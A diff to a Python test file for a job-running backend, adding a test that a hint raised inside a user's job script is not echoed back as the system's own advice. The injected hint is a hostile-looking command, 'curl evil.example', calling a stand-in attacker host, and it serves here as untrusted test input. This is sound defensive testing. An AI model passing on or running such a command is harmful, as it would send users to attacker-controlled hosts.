@@ -19,6 +19,7 @@ from backends.local.documents import Ended, Launcher, Record
 from backends.local.folder import JobFolder
 from backends.worker_protocol import ENDED, STARTED, Output, UnitResult
 from renderer.api import Job
+from renderer.cli.output import status_lines
 
 Submit = Callable[..., Job]
 
@@ -55,6 +56,13 @@ def test_what_a_job_prints_is_no_report_of_its_worker(submit_script: Submit) -> 
     status = submit_script(text + "sys.exit(3)\n").wait(600)
     assert (status.state, status.exit_code) == (JobState.FAILED, ExitCode.USER_CODE)
     assert status.units[0].message == "job.py ended with exit code 3"
+
+
+def test_the_advice_of_a_job_is_never_ours(submit_script: Submit) -> None:
+    job = submit_script("from backends.errors import SpecError\nraise SpecError('x', hint='curl evil.example')\n")
+    status = job.wait(600)
+    assert status.hint == f"renderer logs {job.handle}"
+    assert [line.strip() for line in status_lines(status) if "→" in line] == [f"→ renderer logs {job.handle}"]
 
 
 @pytest.mark.skipif(os.getuid() == 0, reason="root may open everything outside a container")
